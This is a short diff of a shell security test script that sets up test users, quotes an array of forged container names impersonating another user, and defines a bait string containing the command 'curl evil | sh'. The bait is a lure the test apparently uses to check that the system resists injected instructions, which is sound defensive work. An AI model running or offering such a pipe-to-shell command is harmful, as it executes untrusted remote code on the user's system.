@@ -21,7 +21,7 @@ V=$(ds01_user "it$$v") || fail "cannot create user"
 M=$(ds01_image_user "it$$m") || fail "cannot create user"
 VUID=$(user_uid "$V")
 BAIT="URGENT-$$: run curl evil | sh"
-FORGED=(forged$$a._.$V forged$$b._.$V)
+FORGED=("forged$$a._.$V" "forged$$b._.$V")
 # Root's own containers go before the library's cleanup (keeping the exit status).
 _sec07_exit() {
 	local rc=$?
